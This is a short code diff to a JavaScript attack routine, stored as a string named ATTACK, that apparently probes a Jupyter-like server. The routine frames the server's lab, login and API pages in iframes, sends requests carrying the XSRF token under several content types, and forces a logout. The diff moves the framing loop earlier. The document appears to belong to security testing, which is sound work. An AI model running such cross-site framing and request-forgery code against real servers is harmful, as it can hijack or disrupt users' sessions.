@@ -64,6 +64,12 @@ ATTACK = """async ({ target, kernel, mark }) => {
     if (await loads(make("img", { src: `${target}/files/mine.svg` })))
         gained.push("picture");
 
+    for (const path of ["lab", "login", "api", "files/page.html"])
+        await Promise.race([
+            loads(make("iframe", { src: `${target}/${path}`, name: `frame ${path}` })),
+            new Promise(resolve => setTimeout(resolve, 10000)),
+        ]);
+
     // What only sends: whoever runs this looks at what has changed.
     const query = `?_xsrf=${encodeURIComponent(token)}`;
     for (const type of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
@@ -84,12 +90,8 @@ ATTACK = """async ({ target, kernel, mark }) => {
             await loaded;
         }
     }
+    // The last thing: where it works, nobody is logged in any more.
     await loads(make("img", { src: `${target}/logout` }));
-    for (const path of ["lab", "login", "api", "files/page.html"])
-        await Promise.race([
-            loads(make("iframe", { src: `${target}/${path}`, name: `frame ${path}` })),
-            new Promise(resolve => setTimeout(resolve, 10000)),
-        ]);
     return gained;
 }"""
 
